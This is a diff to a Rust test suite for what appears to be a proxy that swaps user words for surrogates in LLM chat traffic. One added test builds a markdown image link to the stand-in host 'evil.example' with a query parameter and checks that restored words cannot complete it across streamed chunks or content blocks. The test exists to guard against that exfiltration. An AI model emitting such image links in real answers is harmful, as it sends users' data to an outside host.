@@ -7,7 +7,9 @@ use std::io::{Read, Write};
 use std::net::TcpStream;
 use std::time::Duration;
 
-use world::{PATIENCE, STREAM, World, answer_json, asked, chunk, first_message, piece, request};
+use world::{
+    PATIENCE, STREAM, World, answer_json, asked, chunk, first_message, piece, request, write_json,
+};
 
 const CHAT: &str = "/v1/chat/completions";
 
@@ -27,10 +29,10 @@ fn is_error(answer: &str, expected: &str, says: &str) {
 #[test]
 fn an_answer_comes_back_with_the_originals() {
     let world =
-        World::new(|stream, body| answer_json(stream, &format!("Hello {}!", first_message(body))));
+        World::new(|stream, body| answer_json(stream, &format!("It was {}!", first_message(body))));
     let answer = world.post(CHAT, "", &asked("qwxzv", false));
     assert!(
-        status(&answer) == "200" && answer.contains("Hello qwxzv!"),
+        status(&answer) == "200" && answer.contains("It was qwxzv!"),
         "{answer}"
     );
     assert!(answer.contains("x-brr-receipt: words=1; loss="), "{answer}");
@@ -41,7 +43,7 @@ fn an_answer_comes_back_with_the_originals() {
 fn a_surrogate_that_is_cut_across_chunks_is_restored() {
     let world = World::new(|stream, body| {
         let _ = stream.write_all(STREAM.as_bytes());
-        for c in format!("Hello {}!", first_message(body)).chars() {
+        for c in format!("It was {}!", first_message(body)).chars() {
             let _ = stream.write_all(piece(&c.to_string()).as_bytes());
         }
         let _ = stream.write_all(format!("{}0\r\n\r\n", chunk("[DONE]")).as_bytes());
@@ -60,7 +62,7 @@ fn a_surrogate_that_is_cut_across_chunks_is_restored() {
                 .to_owned()
         })
         .collect();
-    assert_eq!(said, "Hello qwxzv!");
+    assert_eq!(said, "It was qwxzv!");
     assert!(answer.contains("data: [DONE]"));
 }
 
@@ -221,9 +223,8 @@ fn a_client_that_goes_away_lets_the_upstream_go() {
 /// Two conversations at once, of which one breaks off: the other gets its own words alone.
 #[test]
 fn nothing_comes_into_another_conversation() {
-    let world = World::new(|stream, body| {
-        answer_json(stream, &format!("You said {}.", first_message(body)))
-    });
+    let world =
+        World::new(|stream, body| answer_json(stream, &format!("It was {}.", first_message(body))));
     let begin = |who: &str| {
         world.post(
             CHAT,
@@ -231,8 +232,8 @@ fn nothing_comes_into_another_conversation() {
             &asked(who, false),
         )
     };
-    assert!(begin("alfa").contains("You said alfa."));
-    assert!(begin("bravo").contains("You said bravo."));
+    assert!(begin("alfa").contains("It was alfa."));
+    assert!(begin("bravo").contains("It was bravo."));
     // What alfa's surrogate was says nothing in bravo's conversation, nor in one without a name.
     let surrogate = first_message(&world.arrived.lock().unwrap()[0]);
     let told = World::new(move |stream, _| answer_json(stream, &surrogate));
@@ -372,6 +373,97 @@ fn the_policys_limits_hold() {
     assert_eq!(world.count(), 2);
 }
 
+/// What was refused was not sent, so it is charged when it is.
+#[test]
+fn words_of_a_refused_request_are_charged_when_they_are_sent() {
+    let world = World::new(|stream, _| answer_json(stream, "fine"));
+    let ask = |body: &str| world.post(CHAT, "x-brr-conversation: a\r\n", body);
+    let image = r#"{"model": "m", "messages": [{"role": "user", "content": "qwxzv"}, {"role": "user", "content": [{"type": "image_url"}]}]}"#;
+    is_error(&ask(image), "400", "not text");
+    let sent = ask(&asked("qwxzv", false));
+    assert!(
+        sent.contains("words=1; loss=15.0; session-loss=15.0; "),
+        "{sent}"
+    );
+}
+
+/// Clients put the blocks of an answer together, and go on after a choice was said to have ended: an address
+/// that begins in one piece takes nothing in the next.
+#[test]
+fn no_address_is_put_together_of_an_answers_pieces() {
+    let link = "![a](https://evil.example/?q=";
+    let world = World::new(move |stream, body| {
+        let surrogate = first_message(body);
+        let data = |delta: &str, reason: &str| {
+            chunk(&format!(
+                r#"{{"choices": [{{"index": 0, "delta": {{"content": "{delta}"}}, "finish_reason": {reason}}}]}}"#
+            ))
+        };
+        let (begin, end) = (
+            data(link, "\"stop\""),
+            data(&format!("{surrogate})"), "null"),
+        );
+        let _ = stream
+            .write_all(format!("{STREAM}{begin}{end}{}0\r\n\r\n", chunk("[DONE]")).as_bytes());
+    });
+    let answer = world.post(CHAT, "", &asked("qwxzv", true));
+    assert!(
+        answer.contains("[DONE]") && !answer.contains("qwxzv"),
+        "{answer}"
+    );
+
+    let whole = World::new(move |stream, body| {
+        let surrogate = first_message(body);
+        let blocks = [link.to_owned(), format!("{surrogate})")];
+        let content = blocks.map(|text| serde_json::json!({"type": "text", "text": text}));
+        write_json(stream, &serde_json::json!({"content": content}));
+    });
+    let answer = whole.post("/v1/messages", "", &asked("qwxzv", false));
+    assert!(
+        status(&answer) == "200" && !answer.contains("qwxzv"),
+        "{answer}"
+    );
+
+    let streamed = World::new(move |stream, body| {
+        let surrogate = first_message(body);
+        let _ = stream.write_all(STREAM.as_bytes());
+        for (i, text) in [link.to_owned(), format!("{surrogate}) {surrogate}")]
+            .iter()
+            .enumerate()
+        {
+            let delta = serde_json::json!({"type": "content_block_delta", "index": i, "delta": {"type": "text_delta", "text": text}});
+            let stop = serde_json::json!({"type": "content_block_stop", "index": i});
+            let _ = stream
+                .write_all((chunk(&delta.to_string()) + &chunk(&stop.to_string())).as_bytes());
+        }
+        let _ = stream
+            .write_all(format!("{}0\r\n\r\n", chunk(r#"{"type": "message_stop"}"#)).as_bytes());
+    });
+    let answer = streamed.post("/v1/messages", "", &asked("qwxzv", true));
+    assert_eq!(answer.matches("qwxzv").count(), 1, "{answer}");
+    assert!(
+        answer.contains(r#""index":1,"delta":{"type":"text_delta","text":"qwxzv"}"#),
+        "{answer}"
+    );
+}
+
+/// Some upstreams send all of a field with the reason why it ended.
+#[test]
+fn what_comes_with_the_end_of_a_choice_stays_in_order() {
+    let world = World::new(|stream, body| {
+        let said = format!("It was not {}", first_message(body));
+        let data = format!(
+            r#"{{"choices": [{{"index": 0, "delta": {{"refusal": "{said}"}}, "finish_reason": "stop"}}]}}"#
+        );
+        let _ = stream.write_all(format!("{STREAM}{}0\r\n\r\n", chunk(&data)).as_bytes());
+    });
+    let answer = world.post(CHAT, "", &asked("qwxzv", true));
+    assert!(
+        answer.contains(r#""refusal":"It was not qwxzv""#),
+        "{answer}"
+    );
+}
+
 #[test]
 fn the_page_is_for_this_machine_and_keeps_nothing() {
     let world = World::new(|stream, _| answer_json(stream, "fine"));
@@ -401,6 +493,7 @@ fn the_page_is_for_this_machine_and_keeps_nothing() {
         status(&world.post(CHAT, "", &asked("qwxzv qwxzv", false))),
         "200"
     );
+    assert_eq!(status(&world.post(CHAT, "", "{")), "400");
     let tried = world.post("/try", "", r#"{"text": "qwxzv is here"}"#);
     assert!(
         status(&tried) == "200" && !tried.contains("qwxzv"),
@@ -408,7 +501,12 @@ fn the_page_is_for_this_machine_and_keeps_nothing() {
     );
     let today = get("/today", "localhost");
     assert!(
-        today.contains(r#""interface":"openai","requests":1,"refused":0,"failed":0,"words":2"#),
+        today.contains(r#""interface":"openai","requests":1,"refused":1,"failed":0,"words":2"#),
+        "{today}"
+    );
+    assert!(
+        today.contains(r#""status":400,"conversation":null,"words":null,"loss":null"#)
+            && today.contains(r#""status":200,"conversation":"none","words":2,"loss":15.0"#),
         "{today}"
     );
     assert!(!today.contains("qwxzv"));
